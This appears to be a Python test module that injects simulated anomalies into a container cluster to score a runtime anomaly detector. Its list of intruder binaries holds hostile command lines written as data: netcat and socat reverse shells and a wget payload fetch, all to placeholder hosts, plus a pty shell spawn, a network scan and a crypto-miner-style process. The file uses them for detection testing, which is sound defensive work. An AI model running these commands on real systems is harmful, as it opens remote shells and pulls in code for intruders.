"""The ground truth: which anomalies are injected where and when, after the learning period.

Four types, ``per_type`` instances each (20 by default), each on a different workload:

* ``new_binary``: 1-3 execs of a binary no workload of the image ever runs, started by the
  entrypoint (as a web shell or an RCE would); start = end = the first exec.
* ``new_destination``: 1-3 connections of the entrypoint to an external ``ip:port`` the image never
  contacted (half on port 443, which it may know, half on an unusual port); start = end = the first.
* ``burst``: 10× the workload's exec-chain or connection rate for 5 minutes, with its usual
  binaries and destinations (only the rate is anomalous). Only workloads whose rate of that kind is
  ≥ :data:`BURST_MIN_RATE` qualify: below it 5 minutes hold too few events to tell from chance.
* ``slow_drift``: ``cpu_cores`` or ``memory_bytes`` grows 3 % per hour, compounding, for 24 h
  (×2.03 at the end). The monitored period is 26 h, so every drift starts 2 h after learning
  (within 5 minutes) and ends with the scenario: there is no "after the drift" in which a finding
  could be neither right nor wrong. Drift workloads carry no other instance.

Instances of one workload keep 10 minutes apart (``GAP``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

import numpy as np

from tests.analysis.simulation import LEARNING, MONITORED, START, TOLERANCE
from tests.analysis.simulation.cluster import Cluster

TYPES = ("new_binary", "new_destination", "burst", "slow_drift")
US = 1_000_000
MINUTE = 60 * US
HOUR = 60 * MINUTE
GAP = 10 * MINUTE
BURST = 5 * MINUTE
BURST_FACTOR = 10.0
BURST_MIN_RATE = 0.3  # per minute
DRIFT_PER_HOUR = 0.03
DRIFT_LENGTH = 24 * HOUR
DRIFT_METRICS = ("cpu_cores", "memory_bytes")
# (binary, arguments): tools an intruder brings or finds; none is in any simulated image, none
# is a package manager, none names an absolute path in its arguments (which a profiler could read
# as a file access and report as something else)
NEW_BINARIES = (
    ("/tmp/x", ""),
    ("/usr/bin/nc", "-e sh 203.0.113.50 4444"),
    ("/bin/busybox", "wget -q http://203.0.113.9/p"),
    ("/dev/shm/.k", "-daemon"),
    ("/usr/bin/nmap", "-sT -p 1-1024 10.96.0.0/24"),
    ("/tmp/kdevtmpfsi", ""),
    ("/usr/bin/socat", "tcp:203.0.113.7:443 exec:sh"),
    ("/usr/bin/python3", "-c 'import pty; pty.spawn(\"sh\")'"),
    ("/usr/bin/perl", "-e 'use Socket'"),
    ("/usr/bin/whoami", ""),
    ("/usr/bin/id", ""),
    ("/var/tmp/.cache/kworker", "-o pool.example:3333"),
)
UNUSUAL_PORTS = (4444, 8443, 6667, 9001, 1337, 3333, 2222)
EXTERNAL_NEW = tuple(f"203.0.113.{i}" for i in range(2, 250, 7))


@dataclass(frozen=True)
class Instance:
    """One injected anomaly: what a detector should find, on which workload, when."""

    type: str
    workload_key: str
    workload: int  # index into the cluster's workloads
    start: datetime
    end: datetime
    details: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class InjectedExec:
    time_us: int
    workload: int
    pod: int
    binary: str
    arguments: str


@dataclass(frozen=True)
class InjectedConnect:
    time_us: int
    workload: int
    pod: int
    ip: str
    port: int


@dataclass(frozen=True)
class Burst:
    workload: int
    kind: int  # 0 exec chains, 1 connections (traffic.EXEC / traffic.CONNECT)
    start_us: int
    end_us: int


@dataclass(frozen=True)
class Drift:
    workload: int
    metric: str
    start_us: int
    end_us: int


@dataclass
class Plan:
    instances: list[Instance] = field(default_factory=list)
    execs: list[InjectedExec] = field(default_factory=list)
    connects: list[InjectedConnect] = field(default_factory=list)
    bursts: list[Burst] = field(default_factory=list)
    drifts: list[Drift] = field(default_factory=list)

    def of_type(self, kind: str) -> list[Instance]:
        return [i for i in self.instances if i.type == kind]


def at(us: int) -> datetime:
    return START + timedelta(microseconds=us)


def follow_ups(rng: np.random.Generator, start: int) -> list[int]:
    """``start`` and 0-2 more events in the following 2 minutes."""
    return [start, *sorted(start + int(rng.integers(1, 2 * MINUTE)) for _ in range(int(rng.integers(0, 3))))]


class _Calendar:
    """Busy intervals per workload, so that instances of one workload keep GAP apart."""

    def __init__(self) -> None:
        self.busy: dict[int, list[tuple[int, int]]] = {}

    def free(self, workload: int, start: int, end: int) -> bool:
        return all(end + GAP <= s or start >= e + GAP for s, e in self.busy.get(workload, ()))

    def book(self, workload: int, start: int, end: int) -> None:
        self.busy.setdefault(workload, []).append((start, end))


def plan(
    cluster: Cluster, per_type: int = 20, learning: timedelta = LEARNING, monitored: timedelta = MONITORED
) -> Plan:
    """The injections of ``cluster``'s seed (deterministic, a numpy stream of its own)."""
    rng = np.random.default_rng(np.random.SeedSequence([cluster.seed, 2]))
    learn_us = int(learning.total_seconds() * US)
    end_us = learn_us + int(monitored.total_seconds() * US)
    tolerance_us = int(TOLERANCE.total_seconds() * US)
    # point and burst instances: after learning (+10 min), their match window inside the scenario
    first, last = learn_us + GAP, end_us - BURST - tolerance_us - MINUTE
    specs = cluster.workloads
    result, calendar = Plan(), _Calendar()

    # 24 h, unless the scenario is too short for it (the unit tests' small ones)
    drift_length = min(DRIFT_LENGTH, end_us - learn_us - 5 * MINUTE)
    drifting = [int(i) for i in rng.permutation(len(specs))[:per_type]]
    for w in drifting:
        start = end_us - drift_length - int(rng.integers(0, 5 * MINUTE))
        metric = DRIFT_METRICS[int(rng.integers(0, len(DRIFT_METRICS)))]
        result.drifts.append(Drift(w, metric, start, start + drift_length))
        calendar.book(w, start, start + drift_length)
        result.instances.append(
            Instance(
                "slow_drift",
                specs[w].key,
                w,
                at(start),
                at(start + drift_length),
                {"metric": metric, "per_hour": DRIFT_PER_HOUR},
            )
        )
    others = [w for w in range(len(specs)) if w not in set(drifting)]

    def place(w: int, length: int) -> int | None:
        for _ in range(50):
            start = int(rng.integers(first, last))
            if calendar.free(w, start, start + length):
                calendar.book(w, start, start + length)
                return start
        return None

    def candidates(eligible: list[int]) -> list[int]:
        return [eligible[i] for i in rng.permutation(len(eligible))]

    # one profile (image) alerts once per new behaviour: two workloads of one image get different ones
    used: set[tuple[str, str]] = set()
    count = 0
    for w in candidates(others):
        if count == per_type:
            break
        spec = specs[w]
        baseline = cluster.image_binaries(spec.digest)
        choices = [b for b in NEW_BINARIES if b[0] not in baseline and (spec.digest, b[0]) not in used]
        placed = place(w, 2 * MINUTE)
        if placed is None or not choices:
            continue
        start = placed
        binary, arguments = choices[int(rng.integers(0, len(choices)))]
        used.add((spec.digest, binary))
        pod = int(rng.integers(0, len(spec.pods)))
        times = follow_ups(rng, start)
        result.execs.extend(InjectedExec(t, w, pod, binary, arguments) for t in times)
        result.instances.append(
            Instance(
                "new_binary",
                spec.key,
                w,
                at(start),
                at(start),
                {"binary": binary, "arguments": arguments, "pod": spec.pods[pod].name, "events": len(times)},
            )
        )
        count += 1

    count = 0
    for w in candidates(others):
        if count == per_type:
            break
        spec = specs[w]
        known = cluster.image_destinations(spec.digest)
        port = 443 if rng.random() < 0.5 else int(UNUSUAL_PORTS[int(rng.integers(0, len(UNUSUAL_PORTS)))])
        ips = [ip for ip in EXTERNAL_NEW if (ip, port) not in known and (spec.digest, ip) not in used]
        placed = place(w, 2 * MINUTE)
        if placed is None:
            continue
        start = placed
        ip = ips[int(rng.integers(0, len(ips)))]
        used.add((spec.digest, ip))
        pod = int(rng.integers(0, len(spec.pods)))
        times = follow_ups(rng, start)
        result.connects.extend(InjectedConnect(t, w, pod, ip, port) for t in times)
        known_port = any(p == port for _, p in known)
        result.instances.append(
            Instance(
                "new_destination",
                spec.key,
                w,
                at(start),
                at(start),
                {
                    "ip": ip,
                    "port": port,
                    "port_known": known_port,
                    "pod": spec.pods[pod].name,
                    "events": len(times),
                },
            )
        )
        count += 1

    count = 0
    for w in candidates(others):
        if count == per_type:
            break
        spec = specs[w]
        kinds = [k for k in (0, 1) if spec.rates[k] >= BURST_MIN_RATE]
        if not kinds:
            continue
        placed = place(w, BURST)
        if placed is None:
            continue
        start = placed
        kind = kinds[int(rng.integers(0, len(kinds)))]
        result.bursts.append(Burst(w, kind, start, start + BURST))
        result.instances.append(
            Instance(
                "burst",
                spec.key,
                w,
                at(start),
                at(start + BURST),
                {
                    "kind": ("exec", "connect")[kind],
                    "rate_per_minute": spec.rates[kind],
                    "factor": BURST_FACTOR,
                },
            )
        )
        count += 1
    result.instances.sort(key=lambda i: (i.start, i.type, i.workload_key))
    result.execs.sort(key=lambda e: e.time_us)
    result.connects.sort(key=lambda e: e.time_us)
    return result
